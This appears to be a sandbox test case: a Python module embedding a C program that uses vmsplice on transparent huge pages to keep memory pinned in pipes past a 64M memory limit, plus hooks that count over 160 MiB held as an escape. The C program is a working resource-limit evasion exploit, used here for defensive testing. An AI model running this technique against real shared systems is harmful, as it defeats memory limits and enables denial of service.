"""Hides memory from its limit in pipes: one page of a huge one is lent to a pipe, which keeps all of it when the process has unmapped it.

layer: limits, seccomp
control: without a sandbox it gets it
"""
OPTIONS = ["--memory", "64M"]
C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/uio.h>
#include <unistd.h>

#define HUGE ((size_t)2 << 20)

int main(int argc, char **argv)
{
	size_t held = 0;

	fprintf(stderr, "[attack began]\n");

	for (int i = 0; i < 8; i++) {
		int ends[2];

		if (pipe(ends) < 0)
			break;
		for (int k = 0; k < 14; k++) {
			char *p = mmap(NULL, 2 * HUGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			char *at = (char *)(((uintptr_t)p + HUGE - 1) & ~(HUGE - 1));
			struct iovec page = { at, 4096 };
			struct rusage before, after;

			madvise(at, HUGE, MADV_HUGEPAGE);
			getrusage(RUSAGE_SELF, &before);
			for (size_t o = 0; o < HUGE; o += 4096)
				at[o] = 1;
			getrusage(RUSAGE_SELF, &after);
			if (vmsplice(ends[1], &page, 1, SPLICE_F_NONBLOCK) == 4096 && after.ru_minflt - before.ru_minflt < 8)
				held += HUGE;
			munmap(p, 2 * HUGE);
		}
	}
	sleep(argc > 1 ? (unsigned)atoi(argv[1]) : 0);
	printf("held: %zu MiB\n", held >> 20);
	return 0;
}
"""


def scene(s):
    s.argv = ["0" if s.control else "1"]
    if "[never]" in s.t.read("/sys/kernel/mm/transparent_hugepage/enabled"):
        s.t.skip("this machine has no huge pages")


def escaped(s, r):
    return "held:" in r.out and int(r.out.split("held:")[1].split()[0]) > 160
